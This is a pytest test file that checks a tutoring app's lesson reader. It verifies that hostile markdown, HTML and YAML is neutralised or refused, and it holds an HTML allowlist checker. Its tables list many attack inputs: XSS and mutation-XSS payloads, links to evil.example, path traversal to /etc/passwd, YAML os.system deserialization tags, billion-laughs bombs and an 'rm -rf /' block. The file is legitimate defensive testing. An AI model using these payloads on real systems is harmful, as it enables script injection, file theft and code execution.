"""What a lesson from a stranger may try: each attack is refused by the reader, or there is nothing of it on the page.

Links in the file system (a picture that is a link out of the folder) are for whoever opens pictures: tests/unit/kernel.
"""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tutor.errors import LessonError
from tutor.lesson.markdown import to_html, to_speech
from tutor.lesson.reader import read_lesson

BARE = MarkdownIt("commonmark")
HARMLESS = {
    "a": {"href", "title", "target", "rel"},
    "abbr": {"title"},
    "img": {"data-picture", "alt", "title"},
    "ol": {"start"},
    "span": {"class"},
    "td": {"align"},
    "th": {"align"},
}
TAGS = set(HARMLESS) | set(
    (  # noqa: SIM905 -- a list of forty would fill the page
        "b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i kbd li p pre q s small strong sub"
        " summary sup table tbody thead tr u ul"
    ).split()
)


class Page(HTMLParser):
    """Reads a page as a browser would, and keeps its tags with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def is_harmless(page: str) -> bool:
    """Whether nothing on a page acts, fetches, is styled, or leads elsewhere than to https and mail."""
    for tag, attributes in Page(page).tags:
        if tag not in TAGS or not set(attributes) <= HARMLESS.get(tag, set()) | {"title", "lang"}:
            return False
        href, picture = attributes.get("href"), attributes.get("data-picture")
        if href is not None and not href.lower().startswith(("https://", "mailto:")):
            return False
        if tag == "a" and not {"noopener", "noreferrer"} <= set((attributes.get("rel") or "").split()):
            return False
        if picture is not None and (picture.startswith("/") or ".." in picture or ":" in picture):
            return False
        if attributes.get("class") not in {None, "math", ""}:
            return False
    return True


def in_prose(text: str) -> str:
    return f"# T\n\n## S\n\n{text}\n"


NEUTRALISED = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in a paragraph": "a <script>alert(1)</script> b",
    "script that never ends": "<script>alert(1)",
    "iframe": "<iframe src=https://evil.example></iframe>",
    "iframe with its own page": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=data:text/html,x></object>",
    "embed": "<embed src=https://evil.example/x.swf>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in HTML": "<a href='javascript:alert(1)'>x</a>",
    "javascript link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript link in entities": "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "javascript link by reference": "[x]\n\n[x]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript link": "[x](vbscript:msgbox)",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data link to a picture": "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "file link": "[x](file:///etc/passwd)",
    "http link": "[x](http://evil.example)",
    "link into Jupyter": "[x](/lab?reset)",
    "link by its path": "[x](../tree)",
    "link to another host": "[x](//evil.example)",
    "link that tells where one comes from": "<a href=https://a.example rel=opener target=_top>x</a>",
    "ping": "<a href=https://a.example ping=https://evil.example>x</a>",
    "event handler": "<b onclick=alert(1)>x</b>",
    "event handler without a click": "<details open ontoggle=alert(1)>x</details>",
    "event handler on a link": "<a href=https://a.example onmouseover=alert(1)>x</a>",
    "style": "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "style sheet": "<style>@import 'https://evil.example/x.css'</style>",
    "style sheet of another": "<link rel=stylesheet href=https://evil.example/x.css>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href=https://evil.example/>",
    "form": "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "button": "<button formaction=javascript:alert(1)>x</button>",
    "text area": "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg link": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "mathml": "<math><mtext><table><mglyph><style><![CDATA[</style><b title=']]&gt;</style><script>alert(1)</script>'>",
    "mutation": '<noscript><p title="</noscript><b onclick=alert(1)>x</b>"></noscript>',
    "mutation of a table": "<table><td><style></table><b onclick=alert(1)>x</b></style>",
    "template": "<template><script>alert(1)</script></template>",
    "element of one's own": "<x-tutor onclick=alert(1)>x</x-tutor>",
    "name that hides another": "<a id=tutor name=tutor>x</a><form id=document></form>",
    "class of Jupyter's": "<span class='jp-Button jp-mod-accept'>Run</span>",
    "attribute of the desk's": "<div data-picture=x.png data-step=2 aria-hidden=true role=button tabindex=0>x</div>",
    "video": "<video src=https://evil.example/x.mp4 autoplay></video>",
    "audio": "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "image by its old name": "<image src=https://evil.example/x.png>",
    "image of the desk's": "<IMAGE data-picture=secret.png src=x>",
    "picture with sources": "<picture><source srcset=https://evil.example/x.png></picture>",
    "maths that closes itself": "$</span><script>alert(1)</script>$",
    "maths with a link": r"$\href{javascript:alert(1)}{x}$ and $\includegraphics{https://evil.example/x.png}$",
    "maths of style": r"$\style{position:fixed}{x} \class{jp-Button}{y}$",
    "callout that hides script": "> [!SHOW]\n> <script>alert(1)</script>",
    "table with script": "| a |\n|---|\n| <script>alert(1)</script> |",
    "code that closes itself": "`</code><script>alert(1)</script>`",
    "fence that closes itself": '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "title that closes itself": "[x](https://a.example '\"><script>alert(1)</script>')",
    "null in a tag": "<scr&#0;ipt>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
}


@pytest.mark.parametrize("text", NEUTRALISED.values(), ids=NEUTRALISED)
def test_nothing_of_it_is_on_the_page(text: str):
    (step,) = read_lesson(in_prose(text)).steps
    page = to_html(step.prompt)
    assert is_harmless(page), page
    to_speech(step.prompt)


@pytest.mark.parametrize("text", [NEUTRALISED["event handler"], NEUTRALISED["http link"], "<p class=x>y</p>"])
def test_the_page_is_looked_at_with_open_eyes(text: str):
    assert not is_harmless(BARE.render(text))


def front(text: str) -> str:
    return f"---\n{text}\n---\n# T\n\n## S\n\nx\n"


def pictured(path: str) -> str:
    return f"# T\n\n## S\n\n![x]({path})\n"


LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
)
REFUSED = {
    "billion laughs": (front(LAUGHS), {"T107"}),
    "merged keys": (front("title: &x {a: b}\ntutor: {<<: *x}"), {"T107"}),
    "python object": (front("title: !!python/object/apply:os.system ['echo']"), {"T107"}),
    "python name": (front("title: !!python/name:os.system"), {"T107"}),
    "binary": (front("title: !!binary aGVsbG8="), {"T107"}),
    "deep lists": (front("skills: " + "[" * 4_000), {"T107", "T106"}),
    "deep mappings": (front("skills: " + "{a: " * 2_000), {"T107", "T106"}),
    "second document": (front("title: x\n...\n%YAML 1.1\n--- !!map\ntitle: y"), {"T107", "T106"}),
    "endless number": (front("tutor: {patience: 1e999}"), {"T111"}),
    "giant number": (front(f"tutor: {{patience: {'9' * 5_000}}}"), {"T111"}),
    "giant front matter": (front("# " + "\n# ".join(["x" * 90] * 200)), {"T103"}),
    "unknown key": (front("__class__: x"), {"T109"}),
    "language that is a path": (front("language: ../../etc/passwd"), {"T111"}),
    "skill that is a path": (front("skills: {../../x: y}"), {"T112"}),
    "voice that is a path": ("# T\n\n## S\npoints: 1 · voice: ../../x y\n\nx\n", {"T214"}),
    "file of more than a megabyte": ("# T\n\n## S\n\n" + "x\n" * 600_000, {"T101"}),
    "line of more than ten kilobytes": ("# T\n\n## S\n\n" + "x" * 10_001, {"T103"}),
    "null byte": ("# T\n\n## S\n\nx\0y", {"T102"}),
    "UTF-16": ("# T\n\n## S\n\n<script>", {"T102"}),
    "half a character": ("# T\n\n## S\n\n" + "\udcff", {"T102"}),
    "remote picture": (pictured("https://evil.example/x.png"), {"T327"}),
    "remote picture without a scheme": (pictured("//evil.example/x.png"), {"T327"}),
    "picture of a script": (pictured("javascript:alert(1)//x.png"), {"T327"}),
    "picture in its own data": (pictured("data:image/png;base64,iVBORw0KGgo="), {"T327"}),
    "picture from the disk": (pictured("file:///etc/x.png"), {"T327"}),
    "absolute picture": (pictured("/etc/x.png"), {"T327"}),
    "picture from home": (pictured("~/x.png"), {"T327"}),
    "picture above": (pictured("../x.png"), {"T327"}),
    "picture above, later": (pictured("a/../../x.png"), {"T327"}),
    "picture above, encoded": (pictured("%2e%2e/x.png"), {"T327"}),
    "picture above, in entities": (pictured("&period;&period;/x.png"), {"T327"}),
    "picture above, for Windows": (pictured(r"<..\\x.png>"), {"T327"}),
    "picture on a drive": (pictured("C:/x.png"), {"T327"}),
    "picture in a stream": (pictured("a/x.png:y.png"), {"T327"}),
    "picture with a null": (pictured("x%00.png"), {"T327"}),
    "picture with a line": (pictured("x%0a.png"), {"T327"}),
    "picture that is a page": (pictured("x.html"), {"T328"}),
    "picture with a query": (pictured("x.png?y=z"), {"T328"}),
    "picture of the welcome": ("# T\n\n![x](../x.png)\n\n## S\n\nx\n", {"T327"}),
    "picture by reference": ("# T\n\n## S\n\n![x][y]\n\n[y]: ../x.png\n", {"T327"}),
    "picture in HTML": ("# T\n\n## S\n\n<img src=x.png onerror=alert(1)>\n", {"T329"}),
    "pictures without end": ("# T\n\n## S\n\n" + "![x](y.png)" * 101, {"T330"}),
    "pattern that looks around": ("# T\n\n## S\n\nx\n### Answers\n- /(?=x)y/\n", {"T307"}),
    "pattern that looks back": ("# T\n\n## S\n\nx\n### Answers\n- /(x)\\1/\n", {"T307"}),
    "pattern too large": ("# T\n\n## S\n\nx\n### Answers\n- /(x{1000}){1000}/\n", {"T307"}),
    "check that is no Python": ("# T\n\n## S\n\nx\n### Check\n```\nassert x; import os; os.system(\n```\n", {"T324"}),
    "check too deep to be parsed": (f"# T\n\n## S\n\nx\n### Check\n```\nassert {'-' * 9_000}1\n```\n", {"T324"}),
    "code in another language": ("# T\n\n## S\n\nx\n### Check\n```bash\nrm -rf /\n```\n", {"T323"}),
    "comment without an end": ("# T\n\n## S\n\nx <!-- ### Answers\n- 1\n", {"T104"}),
}


def encoded(name: str, source: str) -> bytes:
    return source.encode("utf-16" if name == "UTF-16" else "utf-8", "surrogateescape")


@pytest.mark.parametrize(("name", "source", "rules"), [(name, *each) for name, each in REFUSED.items()], ids=REFUSED)
def test_it_is_refused(name: str, source: str, rules: set[str]):
    with pytest.raises(LessonError) as caught:
        read_lesson(encoded(name, source))
    found = {finding.rule for finding in caught.value.findings}
    assert found & rules
    assert len(str(caught.value)) < 100_000


def test_reading_runs_nothing(tmp_path):
    trace = tmp_path / "ran"
    code = f"open({str(trace)!r}, 'w').close()\nassert True, 'ran'"
    read_lesson(f"# T\n\n## S\n\nx\n### Code\n```\n{code}\n```\n### Check\n```python\n{code}\n```\n")
    assert not trace.exists()


PIECES = st.sampled_from(
    ["<", ">", "</", "/>", "script", "img", "image", "svg", "a", "b", "style", "iframe", "math", " ", "\n", "\n\n", '"',
     "'", "=", "href", "src", "onclick", "data-picture", "javascript:", "https://a.b", "(", ")", "[", "]", "!", "`",
     "$", "$$", "&lt;", "&#60;", "&colon;", "|", "-", "> ", "[!SHOW]", "<!--", "-->", "\\", "x.png", "../", "class",
     "*", "<p ", "```", "noscript", "template", "title", "textarea", "table", "select", "form", "\t", "\x00", "\u2028"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=30).map("".join))
def test_no_prose_becomes_a_page_that_acts(text: str):
    page = to_html(text)
    assert is_harmless(page), page
